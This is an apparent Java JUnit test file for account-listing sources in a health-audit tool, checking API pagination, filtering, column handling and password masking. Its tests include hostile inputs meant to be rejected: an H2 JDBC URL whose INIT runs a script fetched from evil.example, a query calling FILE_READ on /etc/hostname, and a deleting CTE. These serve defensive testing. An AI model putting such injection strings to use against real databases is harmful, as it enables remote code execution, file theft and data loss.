package dev.healthaudit.account;

import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.SQLException;
import java.sql.Statement;
import java.time.Clock;
import java.time.Duration;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.List;
import java.util.Map;
import java.util.Set;

import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

import dev.healthaudit.ratelimit.Backoff;
import dev.healthaudit.ratelimit.Retries;
import dev.healthaudit.sandbox.SandboxServer;
import dev.healthaudit.sandbox.SandboxSettings;
import dev.healthaudit.scalekit.CallListener;
import dev.healthaudit.scalekit.ScalekitClient;
import dev.healthaudit.scalekit.ScalekitCredentials;
import dev.healthaudit.scalekit.ScalekitTimeouts;
import dev.healthaudit.support.TestPostgres;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

class AccountSourcesIntegrationTests {

	private static final Set<String> KNOWN = Set.of("gmail", "slack", "outlook", "github");

	private static SandboxServer sandbox;

	private static ScalekitClient client;

	private static final Retries NO_RETRY = new Retries(new Backoff(1, Duration.ZERO, Duration.ZERO, () -> 0),
			(duration) -> {
			}, (failed) -> {
			});

	@BeforeAll
	static void start() {
		sandbox = SandboxServer.start(SandboxSettings.defaults().withAccounts(250).withRecordRequests(true));
		client = new ScalekitClient(
				new ScalekitCredentials(sandbox.baseUrl(), sandbox.settings().clientId(),
						sandbox.settings().clientSecret()),
				ScalekitTimeouts.defaults(), CallListener.NONE, Clock.systemUTC());
	}

	@AfterAll
	static void stop() {
		sandbox.close();
	}

	@Test
	void scalekitSourceListsEveryAccountOnceWithPagesOf99() {
		List<InputRecord> records = readAll(new ScalekitAccountSource(client, List.of(), NO_RETRY, KNOWN::contains));
		Set<String> keys = new HashSet<>();
		for (InputRecord record : records) {
			AccountRef account = (AccountRef) record;
			assertThat(keys.add(account.connectionName() + "/" + account.identifier())).isTrue();
			// account_id is accounts.csv's own column: carried too, it made the header
			// name it twice
			assertThat(account.extras()).containsOnlyKeys("provider");
			assertThat(account.extras().get("provider")).isEqualTo(
					sandbox.fleet().find(account.connectionName(), account.identifier()).orElseThrow().provider());
		}
		assertThat(keys).hasSize(250)
			.isEqualTo(sandbox.fleet()
				.accounts()
				.stream()
				.map((account) -> account.connector() + "/" + account.identifier())
				.collect(java.util.stream.Collectors.toSet()));
		assertThat(sandbox.requests()).filteredOn((request) -> request.path().equals("/api/v1/connected_accounts"))
			.allSatisfy((request) -> assertThat(request.queryParam("page_size")).isEqualTo("99"));
	}

	@Test
	void scalekitSourceFiltersByConnectionNames() {
		List<InputRecord> records = readAll(
				new ScalekitAccountSource(client, List.of("slack", "github"), NO_RETRY, KNOWN::contains));
		long expected = sandbox.fleet()
			.accounts()
			.stream()
			.filter((account) -> account.connector().equals("slack") || account.connector().equals("github"))
			.count();
		assertThat(records).hasSize((int) expected)
			.allSatisfy((record) -> assertThat(((AccountRef) record).connectionName()).isIn("slack", "github"));
	}

	@Test
	void scalekitSourceRejectsConnectionsThePolicyDoesNotKnow() {
		List<InputRecord> records = readAll(
				new ScalekitAccountSource(client, List.of(), NO_RETRY, Set.of("gmail")::contains));
		long others = sandbox.fleet()
			.accounts()
			.stream()
			.filter((account) -> !account.connector().equals("gmail"))
			.count();
		assertThat(records).filteredOn(RejectedInput.class::isInstance)
			.hasSize((int) others)
			.allSatisfy((record) -> assertThat(((RejectedInput) record).reason()).startsWith("unknown_connection: "));
		assertThat(records).filteredOn(AccountRef.class::isInstance)
			.hasSize(records.size() - (int) others)
			.allSatisfy((record) -> assertThat(((AccountRef) record).connectionName()).isEqualTo("gmail"));
		assertThat(others).isPositive();
	}

	@Test
	void jdbcSourceStreamsRowsAndCarriesColumns() throws SQLException {
		String url = "jdbc:h2:mem:accounts;DB_CLOSE_DELAY=-1";
		try (Connection connection = DriverManager.getConnection(url, "sa", "");
				Statement statement = connection.createStatement()) {
			statement.execute("create table users (id int primary key, email varchar, ident varchar, conn varchar)");
			statement.execute("insert into users values (1, 'a@x.io', 'a@x.io', 'gmail'), (2, 'b@x.io', '', "
					+ "'slack'), (3, 'c@x.io', 'c@x.io', 'notion'), (4, 'd@x.io', 'd@x.io', 'github')");
			String query = "select email, ident as identifier, conn as connection_name from users order by id";
			List<InputRecord> records = readAll(new JdbcAccountSource(url, "sa", "", query, KNOWN::contains));
			assertThat(records).hasSize(4);
			assertThat(records.get(0))
				.isEqualTo(new AccountRef("gmail", "a@x.io", 1, java.util.Map.of("email", "a@x.io")));
			assertThat(records.get(1)).isEqualTo(new RejectedInput(2, "empty_identifier", "slack,"));
			assertThat(records.get(2)).isEqualTo(new RejectedInput(3, "unknown_connection: notion", "notion,c@x.io"));
			try (JdbcAccountSource resumed = new JdbcAccountSource(url, "sa", "", query, KNOWN::contains)) {
				resumed.skip(3);
				assertThat(resumed.next()).get().extracting(InputRecord::line).isEqualTo(4L);
			}
			assertThatThrownBy(() -> new JdbcAccountSource(url, "sa", "", "select email from users", KNOWN::contains))
				.isInstanceOf(InvalidInputException.class)
				.hasMessageContaining("missing column 'identifier'");
		}
	}

	@Test
	void scalekitSourceNumbersItsRecordsInListingOrderAndTheSameAgainOnResume() {
		List<InputRecord> records = readAll(new ScalekitAccountSource(client, List.of(), NO_RETRY, KNOWN::contains));
		assertThat(records).extracting(InputRecord::line)
			.containsExactlyElementsOf(java.util.stream.LongStream.rangeClosed(1, 250).boxed().toList());
		try (ScalekitAccountSource resumed = new ScalekitAccountSource(client, List.of(), NO_RETRY, KNOWN::contains)) {
			resumed.skip(137);
			assertThat(resumed.next()).contains(records.get(137));
		}
	}

	@Test
	void jdbcSourceDropsColumnsNamedLikeOutputColumnsAndRefusesAColumnTwice() throws SQLException {
		String url = "jdbc:h2:mem:campaign;DB_CLOSE_DELAY=-1";
		try (Connection connection = DriverManager.getConnection(url, "sa", "");
				Statement statement = connection.createStatement()) {
			statement.execute("create table campaign (id int primary key, ident varchar, conn varchar, link varchar, "
					+ "email varchar)");
			statement.execute("insert into campaign values (1, 'a@x.io', 'gmail', 'https://link/secret', 'a@x.io')");
			try (JdbcAccountSource source = new JdbcAccountSource(url, "sa", "", "select ident as identifier, "
					+ "conn as connection_name, link as authorization_link, 'ca_1' as account_id, email from campaign",
					KNOWN::contains)) {
				assertThat(source.extraColumns()).containsExactly("email");
				assertThat(source.droppedColumns()).containsExactly("authorization_link", "account_id");
				assertThat(source.next()).contains(new AccountRef("gmail", "a@x.io", 1, Map.of("email", "a@x.io")));
			}
			assertThatThrownBy(() -> new JdbcAccountSource(url, "sa", "",
					"select ident as identifier, conn as connection_name, email, email as EMAIL from campaign",
					KNOWN::contains))
				.isInstanceOf(InvalidInputException.class)
				.hasMessageContaining("column 'email' appears twice");
		}
	}

	@Test
	void jdbcSourceRefusesWhatThePolicyCheckRefusesEvenWhenOpenedDirectly() {
		assertThatThrownBy(() -> new JdbcAccountSource("jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil.example/x'",
				"sa", "", "select 1 as identifier, 2 as connection_name", KNOWN::contains))
			.isInstanceOf(InvalidInputException.class)
			.hasMessageContaining("'source.url' sets H2's INIT");
		assertThatThrownBy(() -> new JdbcAccountSource("jdbc:h2:mem:x", "sa", "",
				"select file_read('/etc/hostname') as identifier, 'gmail' as connection_name", KNOWN::contains))
			.isInstanceOf(InvalidInputException.class)
			.hasMessageContaining("'source.query' calls FILE_READ");
	}

	@Test
	void jdbcSourceThatCannotBeReachedIsUnavailableAndNeverShowsThePassword() {
		// nothing listens on port 1: refused at once
		assertThatThrownBy(() -> new JdbcAccountSource("jdbc:postgresql://127.0.0.1:1/crm?password=hunter22", "auditor",
				"hunter22", "select 1 as identifier, 2 as connection_name", KNOWN::contains))
			.isInstanceOf(SourceUnavailableException.class)
			.hasMessageStartingWith("cannot reach the source database: source.query on "
					+ "jdbc:postgresql://127.0.0.1:1/crm?password=****: ")
			.hasMessageNotContaining("hunter22")
			.hasNoCause();
		assertThatThrownBy(() -> new JdbcAccountSource("jdbc:h2:tcp://127.0.0.1:1/crm;PASSWORD=hunter22", "sa",
				"hunter22", "select 1 as identifier, 2 as connection_name", KNOWN::contains))
			.isInstanceOf(SourceUnavailableException.class)
			.hasMessageNotContaining("hunter22");
	}

	@Test
	void jdbcSourceWithAWrongQueryIsInvalidInput() {
		assertThatThrownBy(() -> new JdbcAccountSource("jdbc:h2:mem:empty", "sa", "",
				"select identifier, connection_name from no_such_table", KNOWN::contains))
			.isInstanceOf(InvalidInputException.class)
			.isNotInstanceOf(SourceUnavailableException.class)
			.hasMessageContaining("NO_SUCH_TABLE");
	}

	@Test
	void jdbcSourceReadsPostgresqlInAReadOnlyTransaction() throws SQLException {
		String url = TestPostgres.newDatabaseArguments().get(0).substring("--spring.datasource.url=".length());
		try (Connection connection = DriverManager.getConnection(url, "postgres", "postgres");
				Statement statement = connection.createStatement()) {
			statement.execute("create table accounts (id int primary key, identifier text, connection_name text)");
			statement.execute("insert into accounts values (1, 'a@x.io', 'gmail'), (2, 'b@x.io', 'slack')");
			try (JdbcAccountSource source = new JdbcAccountSource(url, "postgres", "postgres",
					"select identifier, connection_name from accounts order by id", KNOWN::contains)) {
				assertThat(source.next()).contains(new AccountRef("gmail", "a@x.io", 1, Map.of()));
				assertThat(source.next()).contains(new AccountRef("slack", "b@x.io", 2, Map.of()));
				assertThat(source.next()).isEmpty();
			}
			// a SELECT that writes (a writable CTE) passes the query check, and
			// PostgreSQL's read-only mode stops it
			assertThatThrownBy(() -> new JdbcAccountSource(url, "postgres", "postgres",
					"with gone as (delete from accounts returning *) select identifier, connection_name from gone",
					KNOWN::contains))
				.isInstanceOf(InvalidInputException.class)
				.hasMessageContaining("read-only transaction");
			try (var rows = statement.executeQuery("select count(*) from accounts")) {
				rows.next();
				assertThat(rows.getInt(1)).isEqualTo(2);
			}
		}
	}

	private static List<InputRecord> readAll(AccountSource source) {
		List<InputRecord> records = new ArrayList<>();
		try (source) {
			for (var next = source.next(); next.isPresent(); next = source.next()) {
				records.add(next.get());
			}
		}
		return records;
	}

}
